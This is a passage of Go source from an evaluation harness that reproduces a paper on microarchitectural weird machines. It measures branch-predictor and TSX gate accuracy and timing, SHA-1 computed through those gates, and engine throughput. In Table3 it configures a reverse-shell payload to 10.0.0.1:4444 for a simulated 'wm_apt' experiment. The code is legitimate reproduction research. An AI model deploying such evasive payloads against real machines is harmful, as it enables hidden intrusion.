		TrainIterations: p.TrainIterations,
	}))
	if err != nil {
		return nil, err
	}
	return table2On(m, p)
}

func table2On(m *core.Machine, p Params) (*Table, error) {
	rng := noise.NewRNG(p.Seed + 2)
	t := &Table{
		Title: "Table 2: Overview of various WG performance and accuracy",
		Header: []string{"Weird Gate", "Iterations", "Sim Exec Time (s)", "Executions/Second",
			"Accuracy", "Paper Exec/s", "Paper Acc"},
		Notes: []string{
			fmt.Sprintf("simulated cycles converted at %.1f GHz; BP gates include %d-iteration mistraining per activation", p.ClockHz/1e9, m.TrainIterations()),
			"shape to match the paper: TSX gates 1–2 orders of magnitude faster; TSX_XOR slowest of the TSX family",
		},
	}

	addBP := func(build func(*core.Machine) (*core.BPGate, error)) error {
		g, err := build(m)
		if err != nil {
			return err
		}
		rep, err := core.MeasureBPGate(g, p.Table2Ops, rng)
		if err != nil {
			return err
		}
		appendTable2Row(t, rep, p)
		return nil
	}
	addTSX := func(build func(*core.Machine) (*core.TSXGate, error)) error {
		g, err := build(m)
		if err != nil {
			return err
		}
		rep, err := core.MeasureTSXGate(g, p.Table2Ops, rng)
		if err != nil {
			return err
		}
		appendTable2Row(t, rep, p)
		return nil
	}

	for _, b := range []func(*core.Machine) (*core.BPGate, error){
		core.NewBPAnd, core.NewBPOr, core.NewBPNand, core.NewBPAndAndOr,
	} {
		if err := addBP(b); err != nil {
			return nil, err
		}
	}
	for _, b := range []func(*core.Machine) (*core.TSXGate, error){
		core.NewTSXAnd, core.NewTSXOr, core.NewTSXAssign, core.NewTSXXor,
	} {
		if err := addTSX(b); err != nil {
			return nil, err
		}
	}
	return t, nil
}

func appendTable2Row(t *Table, rep core.AccuracyReport, p Params) {
	ref := paperTable2[rep.Gate]
	simSecs := float64(rep.Cycles) / p.ClockHz
	t.AddRow(
		rep.Gate,
		fmt.Sprintf("%d", rep.Operations),
		fmt.Sprintf("%.3f", simSecs),
		fmt.Sprintf("%.0f", rep.OpsPerSecond(p.ClockHz)),
		fmt.Sprintf("%.3f%%", rep.Accuracy()*100),
		fmt.Sprintf("%.0f", ref.opsPerSec),
		fmt.Sprintf("%.1f%%", ref.accuracy*100),
	)
	t.AddMetric(benchreport.Metric{Name: rep.Gate + "/ops_per_sec", Unit: "ops/s",
		Better: benchreport.HigherIsBetter, Value: rep.OpsPerSecond(p.ClockHz)})
	t.AddMetric(benchreport.Metric{Name: rep.Gate + "/accuracy", Unit: "ratio",
		Better: benchreport.HigherIsBetter, Value: rep.Accuracy()})
}

// Table3 reproduces the wm_apt trigger-count statistics, and returns
// the raw counts for Figure 6's histogram.
func Table3(p Params) (*Table, []int64, error) {
	p.normalize()
	counts := make([]int64, 0, p.Experiments)
	for i := 0; i < p.Experiments; i++ {
		n, err := wmapt.RunTriggerExperiment(p.Seed+uint64(i)*7919, wmapt.ReverseShell{
			Addr: "10.0.0.1", Port: 4444,
		})
		if err != nil {
			return nil, nil, err
		}
		counts = append(counts, int64(n))
	}
	s := stats.SummarizeInts(counts)
	t := &Table{
		Title:  "Table 3: Triggers required for successful wm_apt transform",
		Header: []string{"", "Min", "Q1", "Med", "Q3", "Max", "Std Dev"},
		Notes: []string{
			fmt.Sprintf("%d experiments, reverse-shell payload, eval multiple %d", p.Experiments, wmapt.DefaultEvalMultiple),
			"paper: Min 1, Q1 2, Med 6, Q3 11, Max 69, Std Dev 12.19",
		},
	}
	t.AddRow("Triggers",
		fmt.Sprintf("%.0f", s.Min), fmt.Sprintf("%.0f", s.Q1), fmt.Sprintf("%.0f", s.Median),
		fmt.Sprintf("%.0f", s.Q3), fmt.Sprintf("%.0f", s.Max), fmt.Sprintf("%.2f", s.StdDev))
	t.AddMetric(benchreport.Metric{Name: "triggers/median", Unit: "count", Value: s.Median,
		Samples: benchreport.Downsample(benchreport.SamplesFromInts(counts), 256)})
	t.AddMetric(benchreport.Metric{Name: "triggers/mean", Unit: "count", Value: s.Mean})
	return t, counts, nil
}

// Figure6 renders the histogram of trigger counts from Table 3's data.
func Figure6(counts []int64) string {
	bins := stats.HistogramInts(counts, 2)
	return "== Figure 6: Histogram of wm_apt triggers yielding successful transform ==\n" +
		stats.RenderHistogram(bins, 50)
}

// Table4 reproduces the SHA-1 gate-correctness experiment: hash a
// message of SHA1Blocks blocks with skelly redundancy s/k/n and report
// per-gate correctness after median and after vote.
func Table4(p Params) (*Table, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{
		Seed:            p.Seed,
		Noise:           noise.PaperIsolated(),
		TrainIterations: 3,
	}))
	if err != nil {
		return nil, err
	}
	sk, err := skelly.New(m, skelly.Config{S: p.SHA1S, K: p.SHA1K, N: p.SHA1N, Verify: true})
	if err != nil {
		return nil, err
	}
	h := sha1wm.New(sk)

	// A message that pads to exactly SHA1Blocks blocks.
	msgLen := p.SHA1Blocks*sha1wm.BlockSize - 9
	msg := make([]byte, msgLen)
	for i := range msg {
		msg[i] = byte('a' + i%26)
	}
	digest, err := h.Sum(msg)
	if err != nil {
		return nil, err
	}
	ok := digest == sha1wm.Sum(msg)

	t := &Table{
		Title:  fmt.Sprintf("Table 4: Correct / incorrect gate executions in %d-block SHA-1 hash experiment", p.SHA1Blocks),
		Header: []string{"Gate", "Correct After Median", "Correct After Vote"},
		Notes: []string{
			fmt.Sprintf("redundancy s=%d k=%d n=%d; digest %x; matches reference: %v; %.1f%% of intermediate values architecturally visible",
				p.SHA1S, p.SHA1K, p.SHA1N, digest, ok, h.Stats().VisibleFraction()*100),
			"paper (s=10,k=3,n=5, 2 blocks): every vote correct; AND_AND_OR medians 1,794,238/1,794,240",
		},
	}
	for _, g := range []string{"AND", "OR", "NAND", "AND_AND_OR"} {
		c := sk.Counters(g)
		t.AddRow(g,
			fmt.Sprintf("%d/%d = %.6f", c.MedianCorrect, c.MedianOps, ratio(c.MedianCorrect, c.MedianOps)),
			fmt.Sprintf("%d/%d = %.6f", c.VoteCorrect, c.VoteOps, ratio(c.VoteCorrect, c.VoteOps)))
		t.AddMetric(benchreport.Metric{Name: g + "/median_correct", Unit: "ratio",
			Better: benchreport.HigherIsBetter, Value: ratio(c.MedianCorrect, c.MedianOps)})
		t.AddMetric(benchreport.Metric{Name: g + "/vote_correct", Unit: "ratio",
			Better: benchreport.HigherIsBetter, Value: ratio(c.VoteCorrect, c.VoteOps)})
	}
	t.AddMetric(benchreport.Metric{Name: "visible_fraction", Unit: "ratio",
		Value: h.Stats().VisibleFraction()})
	t.AddMetric(benchreport.Metric{Name: "digest_ok", Unit: "bool",
		Better: benchreport.HigherIsBetter, Value: b2f(ok)})
	if !ok {
		t.Notes = append(t.Notes, "WARNING: digest mismatch — a vote error escaped redundancy")
	}
	return t, nil
}

func ratio(a, b uint64) float64 {
	if b == 0 {
		return 0
	}
	return float64(a) / float64(b)
}

func b2f(ok bool) float64 {
	if ok {
		return 1
	}
	return 0
}

// Table5 reproduces the BP/IC gate accuracy evaluation under the §6.1
// isolated-core setup.
func Table5(p Params) (*Table, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{
		Seed:            p.Seed,
		Noise:           noise.PaperIsolated(),
		TrainIterations: 4,
	}))
	if err != nil {
		return nil, err
	}
	rng := noise.NewRNG(p.Seed + 5)
	t := &Table{
		Title:  "Table 5: BPU and instruction cache weird gate accuracy evaluation",
		Header: []string{"Gate", "Operations", "Correct", "Mean Accuracy"},
		Notes:  []string{"paper (320,000 ops): AND 0.99998125, OR 0.9999625"},
	}
	for _, build := range []func(*core.Machine) (*core.BPGate, error){core.NewBPAnd, core.NewBPOr} {
		g, err := build(m)
		if err != nil {
			return nil, err
		}
		rep, err := core.MeasureBPGate(g, p.Table5Ops, rng)
		if err != nil {
			return nil, err
		}
		t.AddRow(g.Name(), fmt.Sprintf("%d", rep.Operations), fmt.Sprintf("%d", rep.Correct),
			fmt.Sprintf("%.8f", rep.Accuracy()))
		t.AddMetric(benchreport.Metric{Name: g.Name() + "/accuracy", Unit: "ratio",
			Better: benchreport.HigherIsBetter, Value: rep.Accuracy()})
	}
	return t, nil
}

// delayTable renders per-input-combination delay statistics in the
// shape of Tables 6 and 7.
func delayTable(title string, labels []string, samplesPerRow [][]float64, paperNote string) *Table {
	t := &Table{
		Title:  title,
		Header: []string{"Input", "Min", "Q1", "Med", "Q3", "Max", "Std Dev", "Mean"},
		Notes:  []string{paperNote},
	}
	for i, label := range labels {
		s := stats.Summarize(samplesPerRow[i])
		t.AddRow(label,
			fmt.Sprintf("%.0f", s.Min), fmt.Sprintf("%.0f", s.Q1), fmt.Sprintf("%.0f", s.Median),
			fmt.Sprintf("%.0f", s.Q3), fmt.Sprintf("%.0f", s.Max),
			fmt.Sprintf("%.6f", s.StdDev), fmt.Sprintf("%.6f", s.Mean))
		// The delay encodes the logic value, so the metric is neutral:
		// drift either way is a change worth seeing, not a regression.
		t.AddMetric(benchreport.Metric{Name: "delay/" + label + "/median", Unit: "cycles",
			Value: s.Median, Samples: benchreport.Downsample(samplesPerRow[i], 256)})
	}
	return t
}

// Table6 reproduces the TSX-AND-OR measurement delay distributions:
// eight rows, one per (gate output, input combination) pair.
func Table6(p Params) (*Table, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{Seed: p.Seed, Noise: noise.Paper()}))
	if err != nil {
		return nil, err
	}
	g, err := core.NewTSXAndOr(m)
	if err != nil {
		return nil, err
	}
	samples, err := core.CollectTSXDelays(g, p.Table6Ops)
	if err != nil {
		return nil, err
	}
	labels := []string{
		"AND (0,0)", "AND (1,0)", "AND (0,1)", "AND (1,1)",
		"OR (0,0)", "OR (1,0)", "OR (0,1)", "OR (1,1)",
	}
	rows := make([][]float64, 8)
	for _, s := range samples {
		if readAborted(s.Deltas) {
			continue
		}
		combo := s.Inputs[0] + 2*s.Inputs[1]
		rows[combo] = append(rows[combo], float64(s.Deltas[0]))     // AND output
		rows[4+combo] = append(rows[4+combo], float64(s.Deltas[1])) // OR output
	}
	return delayTable("Table 6: TSX-AND-OR measurement delay (CPU cycles)", labels, rows,
		"paper medians: miss rows ≈ 217–224, hit rows ≈ 36; maxima ≈ 5k–21k"), nil
}

// Table7 reproduces the TSX-XOR measurement delay distributions.
func Table7(p Params) (*Table, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{Seed: p.Seed, Noise: noise.Paper()}))
	if err != nil {
		return nil, err
	}
	g, err := core.NewTSXXor(m)
	if err != nil {
		return nil, err
	}
	samples, err := core.CollectTSXDelays(g, p.Table6Ops)
	if err != nil {
		return nil, err
	}
	labels := []string{"0,0", "1,0", "0,1", "1,1"}
	rows := make([][]float64, 4)
	for _, s := range samples {
		if readAborted(s.Deltas) {
			continue
		}
		combo := s.Inputs[0] + 2*s.Inputs[1]
		rows[combo] = append(rows[combo], float64(s.Deltas[0]))
	}
	return delayTable("Table 7: TSX-XOR measurement delay (CPU cycles)", labels, rows,
		"paper medians: (0,0) and (1,1) ≈ 222 (miss); (0,1) and (1,0) ≈ 36 (hit)"), nil
}

// readAborted recognises the sentinel deltas an aborted read
// transaction reports; those samples carry no timing information.
func readAborted(deltas []int64) bool {
	for _, d := range deltas {
		if d >= 1<<19 {
			return true
		}
	}
	return false
}

// Table8 reproduces the TSX gate accuracy table, counting spurious
// (unrecovered) aborts separately.
func Table8(p Params) (*Table, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{Seed: p.Seed, Noise: noise.Paper()}))
	if err != nil {
		return nil, err
	}
	return table8On(m, p, "Table 8: TSX Gate Accuracy")
}

func table8On(m *core.Machine, p Params, title string) (*Table, error) {
	rng := noise.NewRNG(p.Seed + 8)
	t := &Table{
		Title:  title,
		Header: []string{"Gate", "Correct Ops", "TSX Aborts", "Total Ops", "Mean Accuracy"},
		Notes:  []string{"paper (64,000 ops): AND 0.98250, OR 0.96753, AND-OR 0.97775, XOR 0.92592; 7–12 aborts"},
	}
	for _, build := range []func(*core.Machine) (*core.TSXGate, error){
		core.NewTSXAnd, core.NewTSXOr, core.NewTSXAndOr, core.NewTSXXor,
	} {
		g, err := build(m)
		if err != nil {
			return nil, err
		}
		rep, err := core.MeasureTSXGate(g, p.Table8Ops, rng)
		if err != nil {
			return nil, err
		}
		t.AddRow(g.Name(), fmt.Sprintf("%d", rep.Correct), fmt.Sprintf("%d", rep.SpuriousAborts),
			fmt.Sprintf("%d", rep.Operations), fmt.Sprintf("%.5f", rep.Accuracy()))
		t.AddMetric(benchreport.Metric{Name: g.Name() + "/accuracy", Unit: "ratio",
			Better: benchreport.HigherIsBetter, Value: rep.Accuracy()})
		t.AddMetric(benchreport.Metric{Name: g.Name() + "/spurious_aborts", Unit: "count",
			Better: benchreport.LowerIsBetter, Value: float64(rep.SpuriousAborts)})
	}
	return t, nil
}

// KDEFigure is the result of FigureKDE: the rendered ASCII figure, the
// two density curves, and the machine-readable timing metrics.
type KDEFigure struct {
	Text    string
	K0, K1  []stats.Point // logic-0 and logic-1 densities
	Metrics []benchreport.Metric
}

// FigureKDE generates the measured-timing kernel density estimates of
// Figures 7 (AND) and 8 (OR): one curve per expected logic level.
func FigureKDE(p Params, gate string) (*KDEFigure, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{
		Seed:            p.Seed,
		Noise:           noise.PaperIsolated(),
		TrainIterations: 4,
	}))
	if err != nil {
		return nil, err
	}
	var g *core.BPGate
	var figure string
	switch gate {
	case "AND":
		g, err = core.NewBPAnd(m)
		figure = "Figure 7: bp/icache AND Gate - Measured Timing KDE"
	case "OR":
		g, err = core.NewBPOr(m)
		figure = "Figure 8: bp/icache OR Gate - Measured Timing KDE"
	default:
		return nil, fmt.Errorf("evalharness: unknown KDE gate %q", gate)
	}
	if err != nil {
		return nil, err
	}
	rng := noise.NewRNG(p.Seed + 7)
	zeros, ones, err := core.CollectBPTimings(g, p.FigureOps, rng)
	if err != nil {
		return nil, err
	}
	// Clip the interrupt tail so the KDE shows the logic-level
	// boundary, as the paper's figures do.
	clip := func(xs []int64) []float64 {
		out := make([]float64, 0, len(xs))
		for _, x := range xs {
			if x < 600 {
				out = append(out, float64(x))
			}
		}
		return out
	}
	c0, c1 := clip(zeros), clip(ones)
	k0 := stats.KDE(c0, 4, 60)
	k1 := stats.KDE(c1, 4, 60)
	text := "== " + figure + " ==\n-- logic 0 (expected slow reads) --\n" +
		stats.RenderKDE(k0, 50) +
		"-- logic 1 (expected fast reads) --\n" +
		stats.RenderKDE(k1, 50) +
		fmt.Sprintf("threshold = %d cycles\n", m.Threshold())
	s0, s1 := stats.Summarize(c0), stats.Summarize(c1)
	ms := []benchreport.Metric{
		{Name: "timing/logic0/median", Unit: "cycles", Value: s0.Median,
			Samples: benchreport.Downsample(c0, 256)},
		{Name: "timing/logic1/median", Unit: "cycles", Value: s1.Median,
			Samples: benchreport.Downsample(c1, 256)},
		{Name: "threshold", Unit: "cycles", Value: float64(m.Threshold())},
	}
	return &KDEFigure{Text: text, K0: k0, K1: k1, Metrics: ms}, nil
}
