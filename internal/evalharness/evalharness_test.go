package evalharness

import (
	"fmt"
	"strconv"
	"strings"
	"testing"
)

// tiny returns parameters small enough for unit testing.
func tiny() Params {
	return Params{
		Seed:        5,
		Table2Ops:   300,
		Table5Ops:   500,
		Table6Ops:   100,
		Table8Ops:   500,
		Experiments: 3,
		SHA1S:       3, SHA1K: 1, SHA1N: 1,
		SHA1Blocks:      1,
		FigureOps:       300,
		TrainIterations: 40,
		ClockHz:         2.3e9,
	}
}

func TestTableRender(t *testing.T) {
	tab := &Table{
		Title:  "T",
		Header: []string{"a", "bb"},
		Notes:  []string{"n1"},
	}
	tab.AddRow("xxx", "y")
	out := tab.Render()
	for _, want := range []string{"== T ==", "a", "bb", "xxx", "note: n1"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
}

func TestParamsNormalize(t *testing.T) {
	var p Params
	p.normalize()
	q := Quick()
	if p.Table2Ops != q.Table2Ops || p.ClockHz != q.ClockHz || p.SHA1S != q.SHA1S {
		t.Errorf("normalize did not apply quick defaults: %+v", p)
	}
	full := Full()
	if full.Table2Ops != 1_000_000 || full.SHA1S != 10 {
		t.Errorf("full params wrong: %+v", full)
	}
}

func TestTable2Shape(t *testing.T) {
	tab, err := Table2(tiny())
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 8 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	// The TSX family must be faster than the BP family (Table 2's
	// headline shape). Row order: 4 BP gates then 4 TSX gates.
	speed := func(row []string) float64 {
		v, err := strconv.ParseFloat(row[3], 64)
		if err != nil {
			t.Fatalf("bad speed cell %q", row[3])
		}
		return v
	}
	slowestTSX := speed(tab.Rows[4])
	fastestBP := speed(tab.Rows[0])
	for _, r := range tab.Rows[4:] {
		if s := speed(r); s < slowestTSX {
			slowestTSX = s
		}
	}
	for _, r := range tab.Rows[:4] {
		if s := speed(r); s > fastestBP {
			fastestBP = s
		}
	}
	if slowestTSX < 5*fastestBP {
		t.Errorf("TSX gates (slowest %f) should be ≫ BP gates (fastest %f)", slowestTSX, fastestBP)
	}
}

func TestTable3AndFigure6(t *testing.T) {
	tab, counts, err := Table3(tiny())
	if err != nil {
		t.Fatal(err)
	}
	if len(counts) != 3 {
		t.Fatalf("counts = %v", counts)
	}
	for _, c := range counts {
		if c < 1 {
			t.Errorf("trigger count %d < 1", c)
		}
	}
	if len(tab.Rows) != 1 {
		t.Error("table 3 should have one row")
	}
	if fig := Figure6(counts); !strings.Contains(fig, "Figure 6") {
		t.Error("figure 6 render missing title")
	}
}

func TestTable4Runs(t *testing.T) {
	if testing.Short() {
		t.Skip("SHA-1 experiment is slow")
	}
	tab, err := Table4(tiny())
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 4 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	joined := strings.Join(tab.Notes, " ")
	if !strings.Contains(joined, "matches reference: true") {
		t.Errorf("quick Table 4 digest mismatched: %s", joined)
	}
}

func TestTable5Accuracy(t *testing.T) {
	tab, err := Table5(tiny())
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range tab.Rows {
		acc, err := strconv.ParseFloat(row[3], 64)
		if err != nil {
			t.Fatal(err)
		}
		if acc < 0.99 {
			t.Errorf("%s accuracy %f below 0.99", row[0], acc)
		}
	}
}

func TestTables6And7Bimodal(t *testing.T) {
	tab6, err := Table6(tiny())
	if err != nil {
		t.Fatal(err)
	}
	med := func(row []string) float64 {
		v, _ := strconv.ParseFloat(row[3], 64)
		return v
	}
	// AND output: only (1,1) is a hit; OR: only (0,0) is a miss.
	if med(tab6.Rows[3]) > 100 {
		t.Errorf("AND(1,1) median %f should be a hit", med(tab6.Rows[3]))
	}
	if med(tab6.Rows[0]) < 150 {
		t.Errorf("AND(0,0) median %f should be a miss", med(tab6.Rows[0]))
	}
	if med(tab6.Rows[4]) < 150 || med(tab6.Rows[7]) > 100 {
		t.Error("OR output medians not bimodal")
	}

	tab7, err := Table7(tiny())
	if err != nil {
		t.Fatal(err)
	}
	// XOR: (0,0) and (1,1) miss; (1,0) and (0,1) hit.
	if med(tab7.Rows[0]) < 150 || med(tab7.Rows[3]) < 150 {
		t.Error("XOR same-input rows should miss")
	}
	if med(tab7.Rows[1]) > 100 || med(tab7.Rows[2]) > 100 {
		t.Error("XOR differing-input rows should hit")
	}
}

func TestTable8Accuracies(t *testing.T) {
	tab, err := Table8(tiny())
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 4 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	accOf := make(map[string]float64)
	for _, row := range tab.Rows {
		v, err := strconv.ParseFloat(row[4], 64)
		if err != nil {
			t.Fatal(err)
		}
		if v < 0.85 || v > 1 {
			t.Errorf("%s accuracy %f outside the paper band", row[0], v)
		}
		accOf[row[0]] = v
	}
	if accOf["TSX_XOR"] >= accOf["TSX_AND"] {
		t.Error("multi-window XOR should be less accurate than AND")
	}
}

func TestFigureKDE(t *testing.T) {
	fig, err := FigureKDE(tiny(), "AND")
	if err != nil {
		t.Fatal(err)
	}
	k0, k1 := fig.K0, fig.K1
	if !strings.Contains(fig.Text, "Figure 7") {
		t.Error("missing title")
	}
	if len(k0) == 0 || len(k1) == 0 {
		t.Fatal("empty KDE series")
	}
	if len(fig.Metrics) == 0 {
		t.Error("figure carries no metrics")
	}
	// logic-1 reads cluster fast, logic-0 reads cluster slow: compare
	// the density-weighted means.
	var m0, w0, m1, w1 float64
	for _, p := range k0 {
		m0 += p.X * p.Density
		w0 += p.Density
	}
	for _, p := range k1 {
		m1 += p.X * p.Density
		w1 += p.Density
	}
	if m1/w1 >= m0/w0 {
		t.Errorf("logic-1 KDE mean %f not faster than logic-0 mean %f", m1/w1, m0/w0)
	}
	if _, err := FigureKDE(tiny(), "NOPE"); err == nil {
		t.Error("unknown gate accepted")
	}
}

func TestAblationsOrdering(t *testing.T) {
	if testing.Short() {
		t.Skip("ablations run several machines")
	}
	p := tiny()
	tab, err := Ablations(p)
	if err != nil {
		t.Fatal(err)
	}
	acc := func(variant, gate string) float64 {
		for _, row := range tab.Rows {
			if row[0] == variant && strings.HasPrefix(row[1], gate) {
				v, _ := strconv.ParseFloat(row[3], 64)
				return v
			}
		}
		t.Fatalf("row %s/%s missing", variant, gate)
		return 0
	}
	if acc("TSX window 8 cycles", "TSX_AND") >= acc("baseline (paper)", "TSX_AND") {
		t.Error("collapsing the TSX window should hurt accuracy")
	}
	if acc("busy machine (no §6.1 isolation)", "TSX_AND") >= acc("baseline (paper)", "TSX_AND") {
		t.Error("a busy machine should hurt TSX accuracy")
	}
}

func TestExtraChannels(t *testing.T) {
	tab, err := ExtraChannels(tiny())
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 6 {
		t.Fatalf("rows = %d", len(tab.Rows))
	}
	for _, row := range tab.Rows {
		var rate float64
		if _, err := fmt.Sscanf(row[3], "%f", &rate); err != nil {
			t.Fatal(err)
		}
		if rate > 0.05 {
			t.Errorf("%s error rate %.4f too high on an isolated machine", row[0], rate)
		}
	}
}

func TestEngineThroughputExperiment(t *testing.T) {
	tab, err := EngineThroughput(tiny())
	if err != nil {
		t.Fatal(err)
	}
	if len(tab.Rows) != 5 {
		t.Fatalf("rows = %d, want 3 pool sizes + 2 vote policies", len(tab.Rows))
	}
	if len(tab.Metrics) != 5 {
		t.Fatalf("metrics = %d, want 5", len(tab.Metrics))
	}
	for _, m := range tab.Metrics {
		if m.Value <= 0 {
			t.Errorf("metric %s = %f, want > 0", m.Name, m.Value)
		}
	}
	// The registry must carry the experiment for uwm-bench -engine/-json.
	found := false
	for _, r := range Registry() {
		if r.Name == "engine" {
			found = true
		}
	}
	if !found {
		t.Error("registry is missing the engine experiment")
	}
}
