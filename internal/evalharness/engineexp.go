package evalharness

import (
	"context"
	"encoding/json"
	"fmt"
	"time"

	"uwm/internal/benchreport"
	"uwm/internal/engine"
)

// EngineThroughput is an extension experiment over the concurrent
// execution engine: job throughput as the worker pool scales (each
// worker pinning its own weird machine, so the speedup measures how
// embarrassingly parallel redundant weird-machine execution is), and
// the accuracy the engine's result-voting policy buys back — the
// paper's s/k/n redundancy argument (§5) replayed one level up, over
// whole job results instead of individual gate activations.
func EngineThroughput(p Params) (*Table, error) {
	p.normalize()
	jobs := p.Table8Ops / 80
	if jobs < 24 {
		jobs = 24
	}

	t := &Table{
		Title:  "Engine: concurrent job throughput and result-vote accuracy",
		Header: []string{"Configuration", "Jobs", "Wall Time", "Jobs/s", "Speedup", "Accuracy"},
		Notes: []string{
			"gate jobs of 4 TSX_XOR activations; every worker pins its own calibrated machine",
			"accuracy rows: single-activation TSX_XOR jobs judged against the golden truth table",
			"vote-of-3 must outvote the single-shot gate error rate, as s/k/n does per activation",
		},
	}

	// Throughput: the same job stream against growing pools. The root
	// seed is shared, so each pool computes identical per-job results —
	// the wall clock is the only thing that changes.
	var baseline float64
	for _, workers := range []int{1, 2, 4} {
		perSec, wall, err := engineJobsPerSecond(p, workers, jobs)
		if err != nil {
			return nil, err
		}
		speedup := 1.0
		if workers == 1 {
			baseline = perSec
		} else if baseline > 0 {
			speedup = perSec / baseline
		}
		t.AddRow(
			fmt.Sprintf("pool=%d", workers),
			fmt.Sprintf("%d", jobs),
			fmt.Sprintf("%.3fs", wall.Seconds()),
			fmt.Sprintf("%.1f", perSec),
			fmt.Sprintf("%.2fx", speedup),
			"-")
		t.AddMetric(benchreport.Metric{Name: fmt.Sprintf("pool%d/jobs_per_sec", workers),
			Unit: "job/s", Better: benchreport.HigherIsBetter, Value: perSec})
	}

	// Accuracy: one gate activation per job so the job-level vote is
	// doing exactly what the paper's k-of-n vote does per gate.
	for _, policy := range []struct {
		label          string
		attempts, vote int
	}{
		{"vote-of-1", 1, 1},
		{"vote-of-3", 3, 2},
	} {
		acc, err := engineVoteAccuracy(p, jobs, policy.attempts, policy.vote)
		if err != nil {
			return nil, err
		}
		t.AddRow(policy.label, fmt.Sprintf("%d", jobs), "-", "-", "-",
			fmt.Sprintf("%.3f%%", acc*100))
		t.AddMetric(benchreport.Metric{Name: policy.label + "/accuracy",
			Unit: "ratio", Better: benchreport.HigherIsBetter, Value: acc})
	}
	return t, nil
}

// engineJobsPerSecond times a fixed job stream through a pool.
func engineJobsPerSecond(p Params, workers, jobs int) (float64, time.Duration, error) {
	e, err := engine.New(engine.Config{
		Workers:         workers,
		QueueDepth:      jobs + 1,
		Seed:            p.Seed,
		TrainIterations: 4,
		Metrics:         p.Metrics,
	})
	if err != nil {
		return 0, 0, err
	}
	defer e.Close(context.Background())

	params, err := json.Marshal(engine.GateParams{Gate: "TSX_XOR", Random: 4})
	if err != nil {
		return 0, 0, err
	}
	start := time.Now()
	submitted := make([]*engine.Job, 0, jobs)
	for i := 0; i < jobs; i++ {
		j, err := e.Submit(engine.JobSpec{Type: engine.JobTypeGate, Params: params})
		if err != nil {
			return 0, 0, err
		}
		submitted = append(submitted, j)
	}
	for _, j := range submitted {
		<-j.Done()
		if st := j.Status(); st != engine.StatusDone {
			return 0, 0, fmt.Errorf("evalharness: engine job %s finished %s: %s", j.ID(), st, j.Err())
		}
	}
	wall := time.Since(start)
	if wall <= 0 {
		wall = time.Nanosecond
	}
	return float64(jobs) / wall.Seconds(), wall, nil
}

// engineVoteAccuracy submits single-activation TSX_XOR jobs under the
// given retry policy and scores each voted result against the golden
// truth table.
func engineVoteAccuracy(p Params, jobs, attempts, vote int) (float64, error) {
	e, err := engine.New(engine.Config{
		Workers:         2,
		QueueDepth:      jobs + 1,
		Seed:            p.Seed + uint64(attempts), // distinct noise per policy
		TrainIterations: 4,
		Metrics:         p.Metrics,
	})
	if err != nil {
		return 0, err
	}
	defer e.Close(context.Background())

	combos := [][][]int{{{0, 0}}, {{0, 1}}, {{1, 0}}, {{1, 1}}}
	submitted := make([]*engine.Job, 0, jobs)
	for i := 0; i < jobs; i++ {
		params, err := json.Marshal(engine.GateParams{Gate: "TSX_XOR", Inputs: combos[i%len(combos)]})
		if err != nil {
			return 0, err
		}
		j, err := e.Submit(engine.JobSpec{
			Type:     engine.JobTypeGate,
			Params:   params,
			Attempts: attempts,
			Vote:     vote,
		})
		if err != nil {
			return 0, err
		}
		submitted = append(submitted, j)
	}

	correct := 0
	for _, j := range submitted {
		<-j.Done()
		if st := j.Status(); st != engine.StatusDone {
			return 0, fmt.Errorf("evalharness: engine job %s finished %s: %s", j.ID(), st, j.Err())
		}
		var res engine.GateResult
		if err := json.Unmarshal(j.Result().Value, &res); err != nil {
			return 0, err
		}
		if res.Correct == res.Total {
			correct++
		}
	}
	return float64(correct) / float64(jobs), nil
}
