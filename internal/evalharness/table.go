// Package evalharness regenerates every table and figure of the
// paper's evaluation section (§6) against the simulated weird machine:
//
//	Table 2   — gate throughput and accuracy overview
//	Table 3   — wm_apt triggers required (with Figure 6's histogram)
//	Table 4   — SHA-1 gate correctness after median and after vote
//	Table 5   — BP/IC gate accuracy at 320k operations
//	Table 6   — TSX-AND-OR measurement delay distributions
//	Table 7   — TSX-XOR measurement delay distributions
//	Table 8   — TSX gate accuracy and unrecovered aborts
//	Figure 7  — KDE of bp/icache AND gate timings
//	Figure 8  — KDE of bp/icache OR gate timings
//
// Each experiment returns a Table (plus raw series for the figures);
// cmd/uwm-bench renders them, bench_test.go wraps them in testing.B
// benchmarks, and EXPERIMENTS.md records a full run.
package evalharness

import (
	"fmt"
	"strings"

	"uwm/internal/benchreport"
	"uwm/internal/core"
	"uwm/internal/metrics"
	"uwm/internal/trace"
)

// Table is a rendered experiment result.
type Table struct {
	Title  string
	Header []string
	Rows   [][]string
	Notes  []string
	// Metrics is the machine-readable companion of the rendered rows:
	// every experiment publishes its key numbers here so `uwm-bench
	// -json` can serialise them and the comparator can diff two runs.
	Metrics []benchreport.Metric
}

// AddRow appends a formatted row.
func (t *Table) AddRow(cells ...string) { t.Rows = append(t.Rows, cells) }

// AddMetric appends a structured metric to the table's machine-readable
// companion.
func (t *Table) AddMetric(m benchreport.Metric) { t.Metrics = append(t.Metrics, m) }

// Render lays the table out as aligned text.
func (t *Table) Render() string {
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "== %s ==\n", t.Title)
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			fmt.Fprintf(&sb, "%-*s", widths[i], c)
		}
		sb.WriteByte('\n')
	}
	line(t.Header)
	for i, w := range widths {
		if i > 0 {
			sb.WriteString("  ")
		}
		sb.WriteString(strings.Repeat("-", w))
	}
